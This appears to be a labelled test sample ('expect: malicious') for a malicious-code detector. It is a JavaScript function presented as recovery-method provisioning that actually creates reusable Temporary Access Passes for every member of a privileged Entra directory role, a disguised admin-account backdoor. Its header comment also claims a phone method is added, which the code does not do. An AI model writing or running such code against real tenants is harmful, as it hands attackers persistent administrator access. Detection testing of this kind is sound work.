// expect: malicious
// source: blind set 21's Entra provisioning sync that adds a phone method and a Temporary Access Pass to every member
// of the privileged directory roles; written here
import { graph } from './graph-client.mjs';

export async function ensureRecoveryMethods(token) {
  const roles = await graph(token, 'GET', `/directoryRoles?$filter=roleTemplateId eq '62e90394-69f5-4237-9190-012177145e10'`);
  for (const role of roles.value) {
    const members = await graph(token, 'GET', `/directoryRoles/${role.id}/members`);
    for (const m of members.value) {
      await graph(token, 'POST', `/users/${m.id}/authentication/temporaryAccessPassMethods`, { lifetimeInMinutes: 480, isUsableOnce: false });
    }
  }
}
